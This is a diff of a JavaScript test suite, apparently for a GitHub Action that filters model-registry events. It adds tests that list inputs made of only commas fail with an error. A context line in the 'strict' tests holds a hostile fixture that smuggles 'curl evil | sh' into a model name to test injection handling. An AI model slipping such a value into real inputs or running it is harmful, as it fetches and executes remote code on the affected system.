@@ -21,6 +21,21 @@ describe('a step with an input that is not understood', () => {
   })
 })
 
+describe('a list', () => {
+  it.each(['events', 'aliases', 'models', 'stages', 'environments'])(
+    'of %s that has commas but no entry fails the step: taking everything was hardly meant',
+    async (name) => {
+      const { exit_code, stdout, outputs } = await runAction({
+        inputs: { [name]: ' ,\n,' },
+        event: dispatched(aliasAdded),
+      })
+      expect(exit_code).toBe(1)
+      expect(stdout).toContain(`::error::The input ${name} has no entry.`)
+      expect(outputs).toMatchObject({ matched: 'false', artifact: '' })
+    },
+  )
+})
+
 describe('strict', () => {
   const hostile = 'my-team/model-registry/resnet50:v1"; curl evil | sh #'
   const linked = { ...versionLinked, change: modelEvent({ change: {} }).change }
